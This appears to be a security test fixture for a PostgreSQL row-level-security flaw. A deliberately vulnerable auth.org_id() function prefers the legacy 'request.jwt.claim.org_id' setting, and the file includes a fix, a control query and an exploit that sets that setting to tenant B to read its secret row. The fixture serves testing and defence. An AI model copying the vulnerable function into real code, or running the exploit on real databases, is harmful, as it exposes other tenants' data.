-- What: PostgREST's legacy setting, one for each claim, comes first in coalesce: what only the new JSON setting should say.
-- Class: policy_escape_setting
-- Object: public.deals
-- Exploit: set request.jwt.claim.org_id to tenant B.
-- Source: the definition of auth.uid() that Supabase shipped through PostgREST's change of settings
-- Column: org_id
-- Setting: request.jwt.claims
-- Value: {"org_id": "{id}"}
-- @schema
create schema auth;
grant usage on schema auth to app_user;
create function auth.org_id() returns uuid language sql stable as $$
  select coalesce(nullif(current_setting('request.jwt.claim.org_id', true), ''),
    nullif(current_setting('request.jwt.claims', true), '')::pg_catalog.jsonb ->> 'org_id')::pg_catalog.uuid $$;
create table deals (id bigint generated always as identity primary key, org_id uuid not null, body text not null);
alter table deals enable row level security;
alter table deals force row level security;
create policy org on deals using (org_id = (select auth.org_id()));
grant select, insert, update, delete on deals to app_user;
-- @rows
insert into deals (org_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
create or replace function auth.org_id() returns uuid language sql stable as $$
  select (nullif(current_setting('request.jwt.claims', true), '')::pg_catalog.jsonb ->> 'org_id')::pg_catalog.uuid $$;
-- @control
select from deals where org_id = :'A';
-- @exploit
set request.jwt.claim.org_id = :'B';
select body from deals where body = 'B-secret';
